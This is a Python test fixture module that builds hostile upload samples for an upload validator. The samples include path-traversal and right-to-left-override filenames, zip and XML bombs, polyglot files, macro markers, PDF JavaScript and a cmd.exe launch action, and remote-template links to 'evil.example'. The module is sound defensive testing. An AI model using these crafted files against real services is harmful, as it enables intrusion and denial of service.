"""Sixty files that must not come in: each a name, its bytes, and the reason for which it is refused."""

import io
import re
import struct
import zipfile
import zlib

from tests.documents.sample_files import TYPES, compound, doc, ooxml, pdf, ppt
from tests.support.image_files import PNG, chunk, drawn, huge_jpg, jpg, moving, png, segment

EXTERNAL = '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{0}" Target="{1}" TargetMode="External"/>'  # noqa: E501
OFFICIAL = "application/vnd.openxmlformats-officedocument.{main}.main"
END = b"PK\x05\x06"
VBA = b"\xff\x03\x14\x00\x00\x00\x02\x00\x00\x04\x0c\x00\x00\x00" + b"\1\0\0\0" + b"\1\0\0\0" + b"\2\0\0\0"


def bomb(size):
    return zlib_of(b"\0" * size)


def zlib_of(content):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def crafted_zip(*entries, told=None, gap=b"", comment=b""):
    """A zip written by hand: (name, packed bytes, size that it tells, fields of the directory to change)."""
    body, directory = b"", b""
    for name, packed, size, changed in entries:
        raw, offset = name.encode(), len(body)
        crc = changed.get("crc", 0)
        method, flags = changed.get("method", 8), changed.get("flags", 0)
        body += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0, crc, len(packed), size, len(raw), 0
        )
        body += raw + packed + gap
        offset = changed.get("offset", offset)
        directory += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            *(0x02014B50, changed.get("made", 20), 20, flags, method, 0, 0, crc),
            *(len(packed), changed.get("size", size), len(raw), 0, 0, 0, 0),
            *(changed.get("attributes", 0), offset),
        )
        directory += raw
    count = told or len(entries)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(body), len(comment))
    return body + directory + end + comment


def zip_of_many_entries(count):
    """A zip of so many empty entries, as one is written in a moment."""
    local, directory, offset = io.BytesIO(), io.BytesIO(), 0
    for number in range(count):
        raw = b"ppt/%06d" % number
        local.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0, 0, 0, 0, len(raw), 0) + raw)
        directory.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0, 0, 0, 0, len(raw), *[0] * 5, offset
            )
        )
        directory.write(raw)
        offset += 30 + len(raw)
    told = min(count, 0xFFFF)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, told, told, directory.tell(), local.tell(), 0)
    return local.getvalue() + directory.getvalue() + end


def zipped(**parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def zip_with_two_names():
    """The name of an entry in the directory is another one than before its bytes."""
    return ooxml("pptx").replace(b"ppt/presentation.xml", b"ppt/presentation.xmx", 1)


def replace_bytes(content, old, new):
    assert old in content
    return content.replace(old, new)


def encrypted():
    content = bytearray(ooxml("pptx"))
    for found in re.finditer(rb"PK\x03\x04|PK\x01\x02", bytes(content)):
        content[found.start() + (6 if content[found.start() + 2] == 3 else 8)] |= 1
    return bytes(content)


HEAD = struct.pack(">IIBBBBB", 9, 9, 8, 0, 0, 0, 0)


def hostile_files():
    """{what it is: (name, content, reason)}; made when asked for, for some take memory."""
    plain, page = ooxml("pptx"), b"<html><script>alert(1)</script></html>"
    inner = zipped(**{"a.txt": b"a"})
    deep = ooxml("xlsx", {"xl/embeddings/b.xlsx": ooxml("xlsx")})
    xml_bomb = b'<!DOCTYPE a [<!ENTITY b "' + b"c" * 100 + b'">]><a>&b;</a>'
    yes = ("a.pptx", "two")
    return {
        # Names
        "path up": ("../../etc/passwd.pdf", pdf(), "folder"),
        "path of windows": ("C:\\Windows\\a.pdf", pdf(), "folder"),
        "absolute path": ("/etc/a.pdf", pdf(), "folder"),
        "path written as numbers": ("..%2f..%2fa.pdf", pdf(), "folder"),
        "path in the signs of a page": ("..&#47;a.pdf", pdf(), "folder"),
        "right to left": ("Tea party\u202efdp.exe.pdf", pdf(), "name"),
        "right to left isolated": ("a\u2067cod.pdf", pdf(), "name"),
        "unseen sign": ("a\u200bb.pdf", pdf(), "name"),
        "end of a string": ("a.php\0.pdf", pdf(), "name"),
        "line break": ("a\r\nX: y.pdf", pdf(), "name"),
        "two endings": ("deck.exe.pdf", pdf(), "name"),
        "ending alone": (".pdf", pdf(), "name"),
        "no ending": ("deck", pdf(), "kind"),
        "very long": ("a" * 201 + ".pdf", pdf(), "long"),
        # Kinds
        "drawing with script": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "kind"),
        "page": ("a.html", page, "kind"),
        "program": ("a.exe", b"MZ" + bytes(100), "kind"),
        "presentation with macros by name": ("a.pptm", plain, "kind"),
        "paper with macros by name": ("a.docm", ooxml("docx"), "kind"),
        "program called pdf": ("a.pdf", b"MZ" + bytes(3000), "other"),
        "page called png": ("a.png", page, "other"),
        "drawing called jpg": ("a.jpg", b"<svg onload='x'/>", "other"),
        "zip called pptx": ("a.pptx", inner, "other"),
        "paper called presentation": ("a.pptx", ooxml("docx"), "other"),
        "nothing": ("a.pdf", b"", "empty"),
        # Bombs
        "bomb of 1 GB": ("a.pptx", crafted_zip(("a", bomb(10**6) * 3, 10**9, {})), "packed"),
        "bomb in a presentation": ("a.pptx", ooxml("pptx", {"ppt/media/a.bin": bytes(50_000_000)}), "packed"),
        "bomb in a paper": ("a.docx", ooxml("docx", {"word/media/a.bmp": bytes(200_000_000)}), "packed"),
        "bomb that lies": (
            "a.pptx",
            replace_bytes(
                ooxml("pptx", {"a.bin": bytes(999_000)}), struct.pack("<I", 999_000), struct.pack("<I", 999)
            ),
            "packed",
        ),
        "bomb of overlapping entries": (
            "a.pptx",
            crafted_zip(*((f"ppt/{n}", bomb(900_000), 900_000, {"offset": 0}) for n in range(200))),
            "two",
        ),
        "sizes beyond four bytes": ("a.pptx", crafted_zip(("a", b"", 0xFFFFFFFF, {})), "packed"),
        "100,000 entries": ("a.pptx", zip_of_many_entries(100_000), "entries"),
        "6,000 entries": ("a.pptx", zip_of_many_entries(6_000), "entries"),
        "more entries than told": ("a.pptx", crafted_zip(("a", b"", 0, {"method": 0}), told=2), "damaged"),
        "xml that unfolds": ("a.pptx", ooxml("pptx", {"ppt/a.xml": xml_bomb}), "macro"),
        "xml that unfolds in wide signs": (
            "a.docx",
            ooxml("docx", {"word/a.xml": xml_bomb.decode().encode("utf-16-le")}),
            "macro",
        ),
        "picture of 50,000 × 50,000": (
            "a.png",
            PNG
            + chunk(b"IHDR", struct.pack(">IIBBBBB", 50_000, 50_000, 8, 2, 0, 0, 0))
            + chunk(b"IEND", b""),
            "pixels",
        ),
        "jpg of 65,000 × 65,000": ("a.jpg", huge_jpg(65_000, 65_000), "pixels"),
        "jpg of 31,000 × 2": ("a.jpg", jpg(31_000, 2), "pixels"),
        # Nested, and two in one
        "zip in a presentation": ("a.pptx", ooxml("pptx", {"ppt/media/a.png": inner}), "nested"),
        "rar in a paper": ("a.docx", ooxml("docx", {"word/media/a.png": b"Rar!\x1a\x07\0"}), "nested"),
        "program in a presentation": ("a.pptx", ooxml("pptx", {"ppt/media/a.jpg": b"MZ\x90\0"}), "nested"),
        "table within a table": ("a.pptx", ooxml("pptx", {"ppt/embeddings/a.xlsx": deep}), "nested"),
        "zip called a table within": ("a.pptx", ooxml("pptx", {"ppt/embeddings/a.xlsx": inner}), "other"),
        "zip behind a pdf": ("a.pdf", pdf() + inner, "two"),
        "page behind a pdf": ("a.pdf", pdf() + page, "two"),
        "zip behind a picture": ("a.png", png() + inner, "two"),
        "page in the words of a jpg": ("a.jpg", jpg(more=segment(0xFE, page)), "two"),
        "page behind a jpg": ("a.jpg", jpg() + page + b"\xff\xd9", "two"),
        "page before a presentation": (yes[0], page + plain, "other"),
        "words behind a presentation": (yes[0], plain + page, "damaged"),
        "bytes between entries": (
            yes[0],
            crafted_zip(("a", b"", 0, {"method": 0}), ("b", b"", 0, {"method": 0}), gap=page),
            "two",
        ),
        "an entry of two names": (yes[0], zip_with_two_names(), "two"),
        "an entry twice": (
            yes[0],
            crafted_zip(("a", b"", 0, {"method": 0}), ("A", b"", 0, {"method": 0})),
            "two",
        ),
        # Paths, links, passwords, macros
        "path in a presentation": ("a.pptx", ooxml("pptx", {"../../a.xml": b"x"}), "folder"),
        "path of windows in a paper": (
            "a.docx",
            crafted_zip(("..\\a.xml", b"", 0, {"method": 0})),
            "folder",
        ),
        "link in a presentation": (
            "a.pptx",
            crafted_zip(("a", b"", 0, {"method": 0, "made": 3 << 8, "attributes": 0o120777 << 16})),
            "nested",
        ),
        "password": ("a.pptx", encrypted(), "password"),
        "password of office": ("a.docx", compound("EncryptedPackage", "EncryptionInfo"), "password"),
        "macros in a presentation": ("a.pptx", ooxml("pptx", {"ppt/vbaProject.bin": b"x"}), "macro"),
        "macros by their kind": (
            "a.docx",
            ooxml(
                "docx", types=TYPES.replace(OFFICIAL, "application/vnd.ms-word.document.macroEnabled.main")
            ),
            "macro",
        ),
        "macros in an old paper": ("a.doc", doc("Macros", "VBA", "_VBA_PROJECT"), "macro"),
        "macros in an old presentation": ("a.ppt", ppt(body=VBA), "macro"),
        "program in an old presentation": ("a.ppt", ppt("\x01Ole10Native"), "macro"),
        "paper without its words": ("a.doc", compound("Workbook"), "other"),
        "directory in a circle": (
            "a.doc",
            replace_bytes(doc(*"abcdef"), struct.pack("<I", 3), struct.pack("<I", 2)),
            "damaged",
        ),
        "template from elsewhere": (
            "a.docx",
            ooxml("docx", relations=EXTERNAL.format("attachedTemplate", "http://evil.example/a.dotm")),
            "outside",
        ),
        "object from elsewhere": (
            "a.pptx",
            ooxml("pptx", relations=EXTERNAL.format("oleObject", "file://server/share/a")),
            "outside",
        ),
        "picture that a field loads from elsewhere": (
            "a.docx",
            ooxml(
                "docx",
                {
                    "word/header1.xml": '<w:p xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
                    "<w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "
                    '"http://evil.example/a.png"</w:instrText></w:r></w:p>'
                },
            ),
            "outside",
        ),
        "script in a pdf": ("a.pdf", pdf(b"<</OpenAction<</S/JavaScript/JS(x)>>>>"), "macro"),
        "script in a pdf in numbers": ("a.pdf", pdf(b"<</S/J#61vaScr#69pt>>"), "macro"),
        "program started by a pdf": ("a.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), "macro"),
        "file in a pdf": ("a.pdf", pdf(b"<</Type/EmbeddedFile>>"), "macro"),
        "half a pdf": ("a.pdf", pdf()[:-20], "damaged"),
        "half a picture": ("a.png", png()[:-20], "damaged"),
        # Pictures
        "half a jpg": ("a.jpg", jpg()[:-20], "damaged"),
        "beginning of a png": ("a.png", png()[:20], "damaged"),
        "beginning of a jpg": ("a.jpg", jpg()[:30], "damaged"),
        "jpg called png": ("a.png", jpg(), "other"),
        "png called jpg": ("a.jpg", png(), "other"),
        "bmp called png": ("a.png", drawn("BMP", 9, 9), "other"),
        "moving gif called png": ("a.png", moving("GIF"), "other"),
        "moving webp called jpg": ("a.jpg", moving("WEBP"), "other"),
        "tiff called jpg": ("a.jpg", drawn("TIFF", 9, 9), "other"),
        "page in the words of a png": ("a.png", png(more=chunk(b"tEXt", b"Comment\0" + page)), "two"),
        "bytes behind a png": ("a.png", png() + b"more", "two"),
        "png of two heads": ("a.png", png(more=chunk(b"IHDR", bytes(13))), "damaged"),
        "png of no rows": ("a.png", PNG + chunk(b"IHDR", HEAD) + chunk(b"IEND", b""), "damaged"),
        "png of no size": ("a.png", png(0, 0), "damaged"),
        "png with a wrong checksum": ("a.png", replace_bytes(png(), b"IDAT", b"IDAU"), "damaged"),
        "picture of 12,000 × 12,000": ("a.png", png(12_000, 12_000, rows=b"x"), "pixels"),
        "words that unfold in a png": (
            "a.png",
            png(more=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(50_000_000)))),
            "damaged",
        ),
    }
